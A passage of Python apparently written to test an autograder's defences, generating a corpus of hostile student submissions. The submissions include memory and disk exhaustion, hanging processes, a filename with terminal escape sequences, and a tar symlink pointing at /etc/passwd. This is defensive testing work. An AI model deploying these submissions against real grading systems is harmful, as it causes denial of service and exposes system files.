               "full", solution_with("  hog();\n", sys_includes + SHARED_INCLUDES, SHM_HOG),
               needs_solution=True, needs_sandbox=True),
        Attack("tmp_fill", "64 MB files into /dev/shm and /tmp until something refuses",
               "zero", stub_with(TMP_FILL, sys_includes), needs_sandbox=True),
        Attack("fork_hog", "6 processes of 2 GB each, every one under its own memory limit",
               "zero", stub_with(FORK_HOG, sys_includes), needs_sandbox=True),
        Attack("sleeper", "every call sleeps (no CPU used): stopped as idle", "zero",
               stub_with(SLEEPER, sys_includes)),
        Attack("pipe_wait", "every call waits on a pipe nobody writes", "zero",
               stub_with(PIPE_WAIT, sys_includes)),
        Attack("spinner", "every call spins for ever: stopped by the time budget", "zero",
               stub_with(SPINNER, sys_includes)),
        Attack("escape_name", "a folder name with terminal escape sequences and a direction "
               "override", "zero", lambda s: files(s.stub), student=ESCAPE_NAME),
        Attack("symlink_tar", "a .tar.gz whose student file is a symbolic link", "refused",
               lambda s: {}, archive="tar", symlink="/etc/passwd"),
    ]


def sources(root=ROOT):
    with open(os.path.join(root, "exercises", EXERCISE, FILE)) as f:
        stub = f.read()
    solution_path = os.path.join(root, "exercises", "instructor", "solutions", EXERCISE, FILE)
    solution = open(solution_path).read() if os.path.isfile(solution_path) else None
    return Sources(stub, solution, root)


def write_corpus(dest, src=None, sandboxed=True, only=None, gpu=False):
    """Writes the corpus's submissions into dest; returns {student: attack} of those written
    and [(attack, why)] of those left out. gpu: the attacks on the speed test only."""
    src = src or sources()
    written, skipped = {}, []
    os.makedirs(dest, exist_ok=True)
    for attack in attacks():
        if only and attack.name not in only:
            continue
        if attack.gpu_only != gpu:
            continue
        if attack.needs_solution and src.solution is None:
            skipped.append((attack, "needs the unsealed solutions"))
            continue
        if attack.needs_sandbox and not sandboxed:
            skipped.append((attack, "would harm this machine without a sandbox"))
            continue
        student = attack.student or attack.name
        content = attack.make(src)
        if attack.archive == "zip":
            with zipfile.ZipFile(os.path.join(dest, student + ".zip"), "w") as z:
                for name, data in content.items():
                    z.writestr(name, data)
        elif attack.archive == "tar":
            with tarfile.open(os.path.join(dest, student + ".tar.gz"), "w:gz") as t:
                for name, data in content.items():
                    info = tarfile.TarInfo(name)
                    info.size = len(data)
                    t.addfile(info, io.BytesIO(data))
                if attack.symlink:
                    info = tarfile.TarInfo(FILE)
                    info.type, info.linkname = tarfile.SYMTYPE, attack.symlink
                    t.addfile(info)
        else:
            folder = os.path.join(dest, student)
            os.makedirs(folder, exist_ok=True)
            for name, data in content.items():
                with open(os.path.join(folder, name), "wb") as f:
                    f.write(data)
            if attack.symlink:
                os.symlink(attack.symlink, os.path.join(folder, FILE))
        written[student] = attack
    return written, skipped


if __name__ == "__main__":
    dest = sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus"
    done, left = write_corpus(dest, sandboxed="--no-sandbox" not in sys.argv)
    for student, attack in sorted(done.items()):
        shown = student.encode("unicode_escape").decode()  # escape_name: never raw on a terminal
        print(f"{shown:<28} {attack.expect:<8} {attack.what}")
    for attack, why in left:
        print(f"(left out) {attack.name}: {why}")
